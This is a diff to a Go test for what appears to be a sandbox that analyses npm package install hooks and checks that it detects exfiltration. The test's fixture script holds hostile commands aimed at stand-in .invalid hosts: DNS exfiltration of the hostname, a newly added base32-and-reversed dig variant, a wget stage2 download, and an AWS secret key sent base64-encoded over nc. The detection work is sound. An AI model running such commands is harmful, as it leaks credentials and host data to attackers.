@@ -23,6 +23,7 @@ func TestSandboxTools(t *testing.T) {
 		`nslookup $(hostname).dns.exfil.invalid >/dev/null 2>&1; ` +
 		`ping -c 1 -W 1 ping.exfil.invalid >/dev/null 2>&1; ` +
 		`wget -q -O /dev/null http://wget.exfil.invalid/stage2 2>/dev/null; ` +
+		`dig +short "$(echo c-$(hostname) | base32 | tr -d = | rev).b32.exfil.invalid" >/dev/null 2>&1; ` +
 		`printf %s "$AWS_SECRET_ACCESS_KEY" | base64 | nc -w 1 nc.exfil.invalid 8080 >/dev/null 2>&1; ` +
 		`python3 -c 'import os' ; powershell -enc SQBFAFgA >/dev/null 2>&1; true`
 	dir := t.TempDir()
@@ -36,7 +37,7 @@ func TestSandboxTools(t *testing.T) {
 	b := phaseOf(t, p, "node_modules/beacon", profile.PhaseInstall)
 	for _, want := range []struct {
 		prog, result string
-	}{{"curl", "ok"}, {"nslookup", "ok"}, {"ping", "ok"}, {"wget", "ok"}, {"base64", "ok"}, {"nc", "ok"}, {"python3", "ok"}, {"powershell", "ENOENT"}} {
+	}{{"curl", "ok"}, {"nslookup", "ok"}, {"ping", "ok"}, {"wget", "ok"}, {"base64", "ok"}, {"base32", "ok"}, {"rev", "ok"}, {"dig", "ok"}, {"nc", "ok"}, {"python3", "ok"}, {"powershell", "ENOENT"}} {
 		if !slices.ContainsFunc(b.Processes, func(pr profile.Process) bool {
 			return len(pr.Argv) > 0 && pr.Argv[0] == want.prog && pr.Result == want.result
 		}) {
@@ -50,6 +51,13 @@ func TestSandboxTools(t *testing.T) {
 		return e.Canary == "AWS_SECRET_ACCESS_KEY" && e.Channel == "network" && e.Encoding == "base64" && strings.HasPrefix(e.Destination, "nc.exfil.invalid:")
 	}) {
 		t.Errorf("the secret nc sent, base64-encoded, is not exfiltration of the package: %+v", b.Exfiltration)
+	}
+	// base32 and rev (mimecast-web-components, 2026): dig must get the
+	// reversed base32 label, not an empty one it refuses to query.
+	if !slices.ContainsFunc(b.Processes, func(pr profile.Process) bool {
+		return len(pr.Argv) == 3 && pr.Argv[0] == "dig" && len(pr.Argv[2]) > len(".b32.exfil.invalid") && strings.HasSuffix(pr.Argv[2], ".b32.exfil.invalid")
+	}) {
+		t.Errorf("dig did not get a base32 label: %+v", b.Processes)
 	}
 	for _, host := range []string{"npm.exfil.invalid", "wget.exfil.invalid", "nc.exfil.invalid"} {
 		if !slices.ContainsFunc(b.Network, func(n profile.Endpoint) bool { return n.Host == host }) {
